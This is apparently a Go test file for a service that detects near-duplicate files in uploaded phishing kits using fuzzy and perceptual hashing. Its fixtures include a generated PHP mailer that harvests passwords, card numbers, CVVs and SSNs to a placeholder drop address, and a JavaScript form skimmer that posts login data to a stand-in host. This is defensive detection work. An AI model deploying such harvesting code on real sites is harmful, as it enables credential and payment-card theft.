package gateway

import (
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha1"
	"encoding/hex"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"dewar/cas"
	"dewar/gateway/analyze"
	"dewar/index"
)

// ingestAnalysed runs a job through the queue whose files are bodies, each
// stored and analysed as ingestion does.
func (ts *testService) ingestAnalysed(t *testing.T, name string, bodies map[string][]byte) index.Job {
	t.Helper()
	ctx := context.Background()
	j, err := ts.Submit(ctx, strings.NewReader("upload of "+name), Submission{Name: name, Submitter: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	res := index.JobResult{Status: index.JobDone, Commit: func(ctx context.Context, ref cas.Ref) error {
		_, err := ts.store.Stat(ctx, ref)
		return err
	}}
	seen := map[cas.Ref]bool{}
	for path, body := range bodies {
		ref, _, err := ts.store.Put(ctx, bytes.NewReader(body), cas.StageOptions{})
		if err != nil {
			t.Fatal(err)
		}
		res.Tree = append(res.Tree, index.TreeEntry{Path: path, Type: index.TreeFile, Blob: ref.Ref, Size: ref.Size})
		if seen[ref.Ref] {
			continue
		}
		seen[ref.Ref] = true
		m, s := md5.Sum(body), sha1.Sum(body)
		res.Files = append(res.Files, index.File{Ref: ref.Ref, Size: ref.Size, MD5: hex.EncodeToString(m[:]), SHA1: hex.EncodeToString(s[:])})
		a, err := analyze.Blob(ctx, ts.store, ref.Ref, "", nil)
		if err != nil {
			t.Fatal(err)
		}
		res.Analyses = append(res.Analyses, a)
	}
	res.Files = append(res.Files, index.File{Ref: j.Upload, Size: j.UploadSize, MD5: j.UploadMD5, SHA1: "-"})
	claimed, lease, err := ts.idx.Claim(ctx, "test/1/worker-0", time.Minute)
	if err != nil || claimed.ID != j.ID {
		t.Fatalf("claim: %s, %v", claimed.ID, err)
	}
	done, err := ts.idx.Finish(ctx, lease, res)
	if err != nil {
		t.Fatal(err)
	}
	return done
}

// simMailer is a kit's mailer of about 5 KiB; tag changes a few values, as
// a re-skinned copy of the kit would.
func simMailer(tag string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "<?php\n// kit by %s\nsession_start();\n$to = \"%s@drop.example\";\n", tag, tag)
	r := rand.New(rand.NewPCG(11, 11))
	fields := []string{"email", "password", "card", "cvv", "expiry", "ssn", "dob", "phone"}
	for i := range 70 {
		f := fields[r.IntN(len(fields))]
		fmt.Fprintf(&b, "$%s_%d = isset($_POST['%s']) ? trim($_POST['%s']) : '';\n", f, i, f, f)
		if i%9 == 0 {
			fmt.Fprintf(&b, "if (strlen($%s_%d) < %d) { header('Location: index.php?e=%s'); exit; }\n", f, i, 3+i%4, f)
		}
	}
	fmt.Fprintf(&b, "$msg = \"-- %s --\\n\";\nforeach ($_POST as $k => $v) { $msg .= \"$k: $v\\n\"; }\nmail($to, \"login\", $msg);\n?>\n", tag)
	return b.Bytes()
}

const simScript = `(function(){
  var endpoint = "https://collect.example/b";
  function collect(form){
    var data = new FormData(form);
    fetch(endpoint, {method: "POST", body: data, mode: "no-cors"});
    document.getElementById("loader").style.display = "block";
  }
  document.addEventListener("DOMContentLoaded", function(){
    var f = document.getElementById("loginForm");
    f.addEventListener("submit", function(e){ e.preventDefault(); collect(f); setTimeout(function(){ f.submit(); }, 1500); });
  });
})();
`

func simCSS() []byte {
	var b bytes.Buffer
	r := rand.New(rand.NewPCG(99, 1))
	for i := range 100 {
		fmt.Fprintf(&b, ".theme-%d .panel > li:nth-child(%d) { margin: %dpx; color: #%06x; }\n", i, r.IntN(9), r.IntN(40), r.IntN(1<<24))
	}
	return b.Bytes()
}

func simRandom(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, seed))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

func simImage(jpg bool) []byte {
	img := image.NewRGBA(image.Rect(0, 0, 200, 200))
	for y := range 200 {
		for x := range 200 {
			c := color.RGBA{uint8(x), uint8(y), 90, 255}
			if dx, dy := x-80, y-100; dx*dx+dy*dy < 50*50 {
				c = color.RGBA{210, 20, 20, 255}
			}
			if x > 130 && x < 190 && y > 30 && y < 80 {
				c = color.RGBA{10, 10, 170, 255}
			}
			img.Set(x, y, c)
		}
	}
	var b bytes.Buffer
	var err error
	if jpg {
		err = jpeg.Encode(&b, img, &jpeg.Options{Quality: 70})
	} else {
		err = png.Encode(&b, img)
	}
	if err != nil {
		panic(err)
	}
	return b.Bytes()
}

// TestSimilar: near duplicates of kit files are found, each with the
// method that found it closest and that method's exact score; unrelated
// files are not.
func TestSimilar(t *testing.T) {
	ts := newTestService(t, nil)
	ctx := context.Background()

	bin := simRandom(200_000, 3)
	flipped := bytes.Clone(bin) // scattered byte changes: ssdeep loses it, TLSH does not
	r := rand.New(rand.NewPCG(1, 1))
	for i := 0; i+200 <= len(flipped); i += 200 {
		flipped[i+r.IntN(100)] ^= 0xff
	}
	prefix := bin[:60_000] // shared start, then other bytes: ssdeep only
	extended := append(bytes.Clone(prefix), bytes.Repeat([]byte("padding text of another kind entirely. "), 4000)...)
	reindented := strings.ReplaceAll(strings.ReplaceAll(simScript, "  ", "\t\t"), " ", "  ") // same tokens

	files := map[string][]byte{
		"a/post.php":     simMailer("alpha"),
		"b/post.php":     simMailer("bravo"),
		"a/collect.js":   []byte(simScript),
		"b/collect.js":   []byte(reindented),
		"a/blob.bin":     bin,
		"b/blob.bin":     flipped,
		"a/prefix.bin":   prefix,
		"b/extended.bin": extended,
		"a/logo.png":     simImage(false),
		"b/logo.jpg":     simImage(true),
		"c/theme.css":    simCSS(),
	}
	ts.ingestAnalysed(t, "kits.zip", files)
	ref := func(name string) cas.Ref { return cas.Sum(files[name]) }

	tests := []struct {
		query, want string
		method      string
		none        bool // nothing similar at all
	}{
		{query: "a/post.php", want: "b/post.php"},
		{query: "a/collect.js", want: "b/collect.js", method: analyze.MethodMinHash},
		{query: "a/blob.bin", want: "b/blob.bin", method: analyze.MethodTLSH},
		{query: "a/prefix.bin", want: "b/extended.bin", method: analyze.MethodSSDeep},
		{query: "a/logo.png", want: "b/logo.jpg"},
		{query: "c/theme.css", none: true},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			got, err := ts.Similar(ctx, ref(tt.query), 10)
			if err != nil {
				t.Fatal(err)
			}
			for i, sf := range got {
				t.Logf("%s: %s %s score %d closeness %.3f", tt.query, sf.Ref.String()[:12], sf.Method, sf.Score, sf.Closeness)
				if i > 0 && sf.Closeness > got[i-1].Closeness {
					t.Errorf("not closest first: %+v after %+v", sf, got[i-1])
				}
				if sf.File.Ref != sf.Ref {
					t.Errorf("File not filled: %+v", sf)
				}
			}
			if tt.none {
				if len(got) != 0 {
					t.Fatalf("unrelated file has similar files: %+v", got)
				}
				return
			}
			if len(got) == 0 || got[0].Ref != ref(tt.want) {
				t.Fatalf("want %s first, got %+v", tt.want, got)
			}
			// The answer names the closest method with its exact score.
			qa, _ := ts.idx.GetAnalysis(ctx, ref(tt.query))
			ca, _ := ts.idx.GetAnalysis(ctx, ref(tt.want))
			var best analyze.Match
			for _, m := range analyze.Methods {
				if x, ok := analyze.Compare(m, qa, ca); ok && x.Closeness > best.Closeness {
					best = x
				}
			}
			if got[0].Method != best.Method || got[0].Score != best.Score || got[0].Closeness != best.Closeness {
				t.Fatalf("got %s score %d (%.3f), want %+v", got[0].Method, got[0].Score, got[0].Closeness, best)
			}
			if tt.method != "" && got[0].Method != tt.method {
				t.Fatalf("found by %s, want %s", got[0].Method, tt.method)
			}
			for _, sf := range got {
				if sf.Ref == ref("c/theme.css") {
					t.Fatalf("the unrelated CSS is similar to %s: %+v", tt.query, sf)
				}
			}
		})
	}
}

// TestSimilarEdges: limits, a file never seen, a file without analysis.
func TestSimilarEdges(t *testing.T) {
	ts := newTestService(t, nil)
	ctx := context.Background()
	files := map[string][]byte{}
	for i := range 5 {
		files[fmt.Sprintf("k%d/post.php", i)] = simMailer(fmt.Sprintf("kit%d", i))
	}
	ts.ingestAnalysed(t, "many.zip", files)
	q := cas.Sum(files["k0/post.php"])
	all, err := ts.Similar(ctx, q, 100)
	if err != nil || len(all) != 4 {
		t.Fatalf("all: %d, %v", len(all), err)
	}
	two, err := ts.Similar(ctx, q, 2)
	if err != nil || len(two) != 2 || two[0] != all[0] || two[1] != all[1] {
		t.Fatalf("limit 2: %+v, %v", two, err)
	}
	if none, err := ts.Similar(ctx, q, 0); err != nil || none != nil {
		t.Fatalf("limit 0: %+v, %v", none, err)
	}
	if _, err := ts.Similar(ctx, cas.Sum([]byte("never seen")), 10); !errors.Is(err, index.ErrFileNotFound) {
		t.Fatalf("unknown file: %v", err)
	}
	// The upload is a file without analysis here.
	j, _, err := ts.idx.ListJobs(ctx, index.JobListOptions{Limit: 1})
	if err != nil || len(j) != 1 {
		t.Fatal(err)
	}
	if got, err := ts.Similar(ctx, j[0].Upload, 10); err != nil || len(got) != 0 {
		t.Fatalf("unanalysed file: %+v, %v", got, err)
	}
}

// TestSimilarImageBands: PDQ and pHash candidates come through their band
// keys in the index, at distances up to the thresholds and not beyond.
func TestSimilarImageBands(t *testing.T) {
	ts := newTestService(t, nil)
	ctx := context.Background()
	files := map[string][]byte{}
	for i := range 5 {
		files[fmt.Sprintf("img%d", i)] = []byte(fmt.Sprintf("stand-in for image %d", i))
	}
	ts.ingestAnalysed(t, "images.zip", files)
	r := rand.New(rand.NewPCG(5, 5))
	flip := func(h []byte, n int) []byte {
		c := bytes.Clone(h)
		for _, i := range r.Perm(len(h) * 8)[:n] {
			c[i/8] ^= 1 << (i % 8)
		}
		return c
	}
	pdq, ph := simRandom(32, 8), simRandom(8, 9)
	// img0 is the query; img1 is near by PDQ only, img2 by pHash only,
	// img3 is past both thresholds, img4 has no image hashes.
	hashes := map[string][2][]byte{
		"img0": {pdq, ph},
		"img1": {flip(pdq, 12), flip(ph, 40)},
		"img2": {flip(pdq, 100), flip(ph, 5)},
		"img3": {flip(pdq, analyze.MaxPDQDistance+1), flip(ph, analyze.MaxPHashDistance+1)},
	}
	for name, h := range hashes {
		a := index.Analysis{Ref: cas.Sum(files[name]), PDQ: hex.EncodeToString(h[0]), PHash: hex.EncodeToString(h[1]), Versions: analyze.Versions()}
		a.Keys = append(analyze.PDQKeys(a.PDQ), analyze.PHashKeys(a.PHash)...)
		if err := ts.idx.SetAnalysis(ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	got, err := ts.Similar(ctx, cas.Sum(files["img0"]), 10)
	if err != nil {
		t.Fatal(err)
	}
	want := []SimilarFile{
		{Ref: cas.Sum(files["img1"]), Method: analyze.MethodPDQ, Score: 12, Closeness: 1 - 12.0/62},
		{Ref: cas.Sum(files["img2"]), Method: analyze.MethodPHash, Score: 5, Closeness: 0.75},
	}
	if len(got) != len(want) {
		t.Fatalf("got %+v, want %+v", got, want)
	}
	for i := range want {
		got[i].File = index.File{}
		if got[i] != want[i] {
			t.Errorf("answer %d: %+v, want %+v", i, got[i], want[i])
		}
	}
}
